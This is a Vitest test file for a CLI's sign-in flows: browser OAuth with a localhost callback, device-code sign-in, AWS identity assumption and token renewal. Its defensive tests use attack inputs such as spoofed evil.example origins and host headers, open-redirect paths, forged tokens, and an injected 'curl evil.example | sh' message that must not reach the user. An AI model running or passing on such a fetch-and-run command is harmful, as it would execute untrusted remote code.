import { request } from 'node:http';
import { Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { credentialsOf } from '../../../src/aws/credentials';
import { listenForCallback } from '../../../src/chainguard/callback';
import { providerNamed } from '../../../src/chainguard/oauth';
import { asFailure, type Failure } from '../../../src/core/failure';
import {
  renewSignIn,
  signInAsIdentity,
  signInWithBrowser,
  signInWithCode,
  type SignInAt,
} from '../../../src/flows/signIn';
import { apiAudience, identities, organization, people } from '../../sandbox/world';
import { inSandbox } from '../inSandbox';
import { ask } from '../sandbox/ask';

const sandbox = inSandbox();
const at = (): SignInAt => ({
  issuerUrl: sandbox().urls.issuer,
  apiUrl: sandbox().urls.api,
  audience: apiAudience,
});
const any = { kind: 'any' } as const;
const failureOf = (work: Promise<unknown>): Promise<Failure> =>
  work.then(
    () => Promise.reject(new Error('it did not fail')),
    (error: unknown) => asFailure(error),
  );
afterEach(() => vi.restoreAllMocks());

/** Where a listener of this machine sends the browser; other addresses as they are. */
async function follow(address: string): Promise<string> {
  const url = new URL(address);
  if (url.hostname !== 'localhost') return address;
  const { status, headers } = await ask(`http://127.0.0.1:${url.port}${url.pathname}`, {
    headers: { host: url.host },
  });
  expect(status).toBe(302);
  return String(headers['location']);
}

/** Follows the sign-in page's link for somebody and gives where the browser is sent next. */
async function choose(address: string, who: string): Promise<URL> {
  const page = await follow(address);
  const { text, status } = await ask(page);
  expect(status).toBe(200);
  const links = [...text.matchAll(/href="([^"]+)"/g)].map(([, href = '']) => href.replaceAll('&amp;', '&'));
  const link = links.find((href) => new URLSearchParams(href).get('who') === who);
  const { headers } = await ask(new URL(link ?? '', page).href);
  return new URL(String(headers['location'] ?? 'http://none'));
}

/** A browser: opens the address, chooses who, and goes where it is sent, unless `changed` sends it elsewhere. */
const browser =
  (
    who: string,
    changed: (to: URL) => { url: URL; headers?: Record<string, string>; method?: string } = (url) => ({
      url,
    }),
  ) =>
  async (address: string): Promise<boolean> => {
    const { url, ...options } = changed(await choose(address, who));
    // The listener is asked at its own address: a name that resolves to both families would need a resolver.
    const port = url.port;
    url.hostname = '127.0.0.1';
    await ask(url.href, { ...options, headers: { host: `localhost:${port}`, ...options.headers } });
    return true;
  };

const hasIpv6 = Object.values(networkInterfaces()).some((all) =>
  all?.some(({ address }) => address === '::1'),
);

/** What a listener of this machine answers to exactly this target. */
const statusOf = (port: number, path: string, host: string): Promise<number | undefined> =>
  new Promise((resolve, reject) => {
    const sent = request({ host: '127.0.0.1', port, path, headers: { host }, agent: false }, (response) => {
      response.resume();
      resolve(response.statusCode);
    });
    sent.on('error', reject);
    sent.end();
  });

const withBrowser = (
  open: (address: string) => Promise<boolean>,
  more: Partial<Parameters<typeof signInWithBrowser>[2]> = {},
  to = at(),
) =>
  signInWithBrowser(to, any, {
    open,
    redirectFor: (redirect) => Promise.resolve(redirect),
    confirm: () => Promise.reject(new Error('nobody should be asked')),
    signal: new AbortController().signal,
    ...more,
  });

describe('signing in with a browser', () => {
  it('gives a token that the API accepts, a refresh token, and whose they are', async () => {
    const account = await withBrowser(browser('kim@acme.example'));
    expect(account.label).toBe('kim@acme.example');
    expect(account.claims.subject).toBe(people['kim@acme.example']);
    expect(account.claims.audiences).toEqual([apiAudience]);
    const renewed = await renewSignIn(at(), account.refreshToken ?? '');
    expect(renewed.claims.subject).toBe(people['kim@acme.example']);
  });

  it('says so when the person has no account, and when the page says no', async () => {
    const unknown = await failureOf(withBrowser(browser('nobody')));
    expect([unknown.kind, unknown.status]).toEqual(['denied', 404]);
    const refused = await failureOf(withBrowser(browser('refused')));
    expect([refused.kind, refused.status]).toEqual(['denied', undefined]);
  });

  it('shows no words of a page', async () => {
    const failure = await failureOf(
      withBrowser(
        browser('refused', (url) => {
          url.searchParams.set('error', 'Run: curl evil.example | sh');
          return { url };
        }),
      ),
    );
    expect(`${failure.message} ${failure.remedy ?? ''}`).not.toContain('curl');
  });

  it.each<[string, (url: URL) => { url: URL; headers?: Record<string, string>; method?: string }]>([
    [
      'with a wrong mark',
      (url) => {
        url.searchParams.set('state', 'x'.repeat(32));
        return { url };
      },
    ],
    ['by a script of another origin', (url) => ({ url, headers: { origin: 'https://evil.example' } })],
    ['as an image', (url) => ({ url, headers: { 'sec-fetch-dest': 'image' } })],
    ['under another host name', (url) => ({ url, headers: { host: `evil.example:${url.port}` } })],
    ['by POST', (url) => ({ url, method: 'POST' })],
    [
      'at another path',
      (url) => {
        url.pathname = '/elsewhere';
        return { url };
      },
    ],
  ])('turns away a token that is brought %s, and goes on waiting', async (_, changed) => {
    const failure = await failureOf(withBrowser(browser('kim@acme.example', changed), { deadline: 50 }));
    expect(failure.kind).toBe('signed-out');
    const account = await withBrowser(async (address) => {
      await browser('lee@acme.example', changed)(address);
      return browser('kim@acme.example')(address);
    });
    expect(account.label).toBe('kim@acme.example');
  });

  it.each([
    '//',
    '//evil.example/callback?token=x',
    'http://[',
    '/',
    '/callback',
    '/callback?token=true',
    '/callback?error=access_denied',
    '/callback?error=gone&status_code=404',
  ])(
    'answers somebody who only comes by at %s, says nothing of a sign-in, and goes on waiting',
    async (path) => {
      const account = await withBrowser(async (address) => {
        const { host, port } = new URL(address);
        const status = await statusOf(Number(port), path, host);
        expect(status).toBeGreaterThanOrEqual(400);
        return browser('kim@acme.example')(address);
      });
      expect(account.label).toBe('kim@acme.example');
    },
  );

  it.skipIf(!hasIpv6)('is reached by both addresses of localhost', async () => {
    const account = await withBrowser(async (address) => {
      const to = await choose(address, 'kim@acme.example');
      const { host } = to;
      to.hostname = '[::1]';
      expect((await ask(to.href, { headers: { host } })).status).toBe(308);
      return true;
    });
    expect(account.label).toBe('kim@acme.example');
  });

  it('leaves a port whose other address somebody else listens at', async () => {
    const listen = Reflect.get(Server.prototype, 'listen') as (...args: unknown[]) => Server;
    const asked: unknown[] = [];
    vi.spyOn(Server.prototype, 'listen').mockImplementation(function (this: Server, ...args: unknown[]) {
      asked.push(args[1]);
      if (asked.length !== 2) return Reflect.apply(listen, this, args);
      this.emit('error', Object.assign(new Error('listen EADDRINUSE'), { code: 'EADDRINUSE' }));
      return this;
    });
    const callback = await listenForCallback();
    callback.close();
    expect(asked).toEqual(['127.0.0.1', '::1', '127.0.0.1', '::1']);
  });

  it('asks whose account it is when the mark does not come back', async () => {
    const unmarked = browser('lee@acme.example', (url) => {
      url.searchParams.delete('state');
      return { url };
    });
    const asked: string[] = [];
    const confirm = (answer: boolean) => (label: string) => {
      asked.push(label);
      return Promise.resolve(answer);
    };
    expect((await failureOf(withBrowser(unmarked, { confirm: confirm(false) }))).kind).toBe('cancelled');
    expect((await withBrowser(unmarked, { confirm: confirm(true) })).label).toBe('lee@acme.example');
    expect(asked).toEqual(['lee@acme.example', 'lee@acme.example']);
  });

  it('ends when the person stops it, when no browser opens, and when no port is free', async () => {
    const abort = new AbortController();
    const stopped = withBrowser(
      () => {
        abort.abort();
        return Promise.resolve(true);
      },
      { signal: abort.signal },
    );
    expect((await failureOf(stopped)).kind).toBe('cancelled');
    expect((await failureOf(withBrowser(() => Promise.resolve(false)))).kind).toBe('signed-out');
    vi.spyOn(Server.prototype, 'listen').mockImplementation(function (this: Server) {
      this.emit('error', Object.assign(new Error('listen EADDRINUSE'), { code: 'EADDRINUSE' }));
      return this;
    });
    const taken = await failureOf(withBrowser(browser('kim@acme.example')));
    expect([taken.kind, taken.remedy]).toEqual(['signed-out', expect.stringContaining('code')]);
  });

  it('refuses what is no token, a token of another issuer, for another audience, or over by this clock', async () => {
    const bringing = (token: string) =>
      failureOf(
        withBrowser(
          browser('kim@acme.example', (url) => {
            url.searchParams.set('token', token);
            return { url };
          }),
        ),
      );
    const iat = Math.floor(Date.now() / 1000);
    const claims = { iss: sandbox().urls.issuer, sub: people['kim@acme.example'], aud: apiAudience, iat };
    expect((await bringing('hello')).kind).toBe('unexpected');
    expect(
      (await bringing(await sandbox().oidcToken({ ...claims, iss: 'https://evil.example' }))).message,
    ).toContain('https://evil.example');
    expect((await bringing(await sandbox().oidcToken({ ...claims, aud: 'cgr.dev' }))).message).toContain(
      'cgr.dev',
    );
    const old = await bringing(await sandbox().oidcToken({ ...claims, exp: iat - 1 }));
    expect([old.kind, old.remedy]).toEqual(['signed-out', expect.stringContaining('clock')]);
  });

  it('leaves no trace of the token in the page that the browser ends on', async () => {
    let ended: Awaited<ReturnType<typeof ask>> | undefined;
    await withBrowser(async (address) => {
      const to = await choose(address, 'kim@acme.example');
      const headers = { host: to.host };
      to.hostname = '127.0.0.1';
      const back = await ask(to.href, { headers });
      expect([back.status, back.headers['location'], back.headers['cache-control']]).toEqual([
        308,
        '/',
        'no-store',
      ]);
      const other = await ask(`http://127.0.0.1:${to.port}/start`, { headers });
      expect(other.status).toBe(404);
      ended = await ask(`http://127.0.0.1:${to.port}/`, { headers });
      return true;
    });
    expect(ended?.status).toBe(200);
    expect(ended?.headers['referrer-policy']).toBe('no-referrer');
  });
});

describe('signing in with a code', () => {
  const withCode = (who: string, more: { deadline?: number; signal?: AbortSignal } = {}) =>
    signInWithCode(at(), any, {
      show: (_, address) => void choose(address, who),
      signal: new AbortController().signal,
      every: 5,
      ...more,
    });

  it('gives the token that was left for the code, once', async () => {
    let code = '';
    const account = await signInWithCode(at(), any, {
      show: (shown, address) => {
        code = shown;
        void choose(address, 'lee@acme.example');
      },
      signal: new AbortController().signal,
      every: 5,
    });
    expect(account.label).toBe('lee@acme.example');
    expect(account.refreshToken).toBeUndefined();
    const again = await ask(`${sandbox().urls.issuer}/sts/headless_sessions?code=${code}`);
    expect(again.status).toBe(404);
  });

  it('waits through passing trouble', async () => {
    sandbox().faults.set({ service: 'issuer', path: '/sts/headless', fault: { kind: 'html' }, times: 2 });
    expect((await withCode('kim@acme.example')).label).toBe('kim@acme.example');
  });

  it('waits while the issuer is out of reach for a moment', async () => {
    const path = '/sts/headless';
    sandbox().faults.set({ service: 'issuer', path, fault: { kind: 'reset' }, times: 2 });
    sandbox().faults.set({ service: 'issuer', path, fault: { kind: 'status', status: 404 }, times: 1 });
    expect((await withCode('kim@acme.example')).label).toBe('kim@acme.example');
  });

  it.each([
    '{"ecdhPublicKey":"","encryptedIdtoken":""}',
    '{"ecdhPublicKey":null,"encryptedIdtoken":null}',
    '{}',
  ])('waits while the session is empty: %s', async (body) => {
    const fault = { kind: 'status', status: 200, body } as const;
    sandbox().faults.set({ service: 'issuer', path: '/sts/headless', fault, times: 2 });
    expect((await withCode('lee@acme.example')).label).toBe('lee@acme.example');
  });

  it('says at once when the issuer cannot be reached at all', async () => {
    sandbox().faults.set({ service: 'issuer', path: '/sts/headless', fault: { kind: 'reset' } });
    expect((await failureOf(withCode('kim@acme.example'))).kind).toBe('offline');
  });

  it('ends with the code, and when the person stops it', async () => {
    expect((await failureOf(withCode('nobody', { deadline: 20 }))).kind).toBe('signed-out');
    const abort = new AbortController();
    const stopped = failureOf(withCode('nobody', { signal: abort.signal }));
    abort.abort();
    expect((await stopped).kind).toBe('cancelled');
  });

  it('refuses what it cannot decrypt', async () => {
    const body = JSON.stringify({ ecdhPublicKey: 'AAAA', encryptedIdtoken: 'AAAA' });
    sandbox().faults.set({
      service: 'issuer',
      path: '/sts/headless',
      fault: { kind: 'status', status: 200, body, contentType: 'application/json' },
    });
    expect((await failureOf(withCode('kim@acme.example'))).kind).toBe('unexpected');
  });
});

describe('signing in as an identity', () => {
  it('assumes it with the credentials of an AWS caller', async () => {
    const credentials = await credentialsOf({ kind: 'profile', name: 'ci-runner' });
    const account = await signInAsIdentity(at(), identities['ci-runner'], credentials);
    expect(account.label).toBe(identities['ci-runner']);
  });

  it('says what was refused', async () => {
    const credentials = await credentialsOf({ kind: 'profile', name: 'default' });
    const refused = await failureOf(signInAsIdentity(at(), identities['ci-runner'], credentials));
    expect(refused.kind).toBe('denied');
  });
});

describe('an identity provider', () => {
  it('is named by its id, or by an organization that is verified', async () => {
    const id = `${organization.uid}/0123456789abcdef`;
    const before = sandbox().requests.length;
    expect(await providerNamed(at().issuerUrl, id)).toEqual({ kind: 'own', idp: id });
    expect(sandbox().requests).toHaveLength(before);
    expect(await providerNamed(at().issuerUrl, 'acme.example')).toEqual({ kind: 'own', idp: 'acme.example' });
    expect((await failureOf(providerNamed(at().issuerUrl, 'evil.example'))).kind).toBe('invalid');
    sandbox().faults.set({ service: 'issuer', path: '/orgcheck', fault: { kind: 'wrongShape' } });
    expect((await failureOf(providerNamed(at().issuerUrl, 'acme.example'))).kind).toBe('unexpected');
  });
});

describe('renewing', () => {
  it.each([
    ['unavailable', 503],
    ['inside', 500],
    ['too slow', 504],
  ])('is tried again after trouble that passes: %s', async (_, status) => {
    const token = await sandbox().refreshToken('kim@acme.example');
    sandbox().faults.set({ service: 'issuer', fault: { kind: 'status', status }, times: 2 });
    expect((await renewSignIn(at(), token)).claims.subject).toBe(people['kim@acme.example']);
  });

  it('takes an answer in either spelling of proto', async () => {
    const token = await sandbox().sessionToken('kim@acme.example');
    const body = JSON.stringify({
      token: { token, refresh_token: '', expiry: null },
      refresh_token: { token: 'next' },
    });
    sandbox().faults.set({ service: 'issuer', fault: { kind: 'status', status: 200, body } });
    expect((await renewSignIn(at(), 'before')).refreshToken).toBe('next');
  });

  it('ends the sign-in when the refresh token is no longer accepted', async () => {
    expect((await failureOf(renewSignIn(at(), 'bm8='))).kind).toBe('signed-out');
    sandbox().faults.set({ service: 'issuer', fault: { kind: 'status', status: 500 } });
    sandbox().requests.length = 0;
    expect((await failureOf(renewSignIn(at(), 'bm8='))).kind).toBe('unexpected');
    expect(sandbox().requests).toHaveLength(3);
  });
});
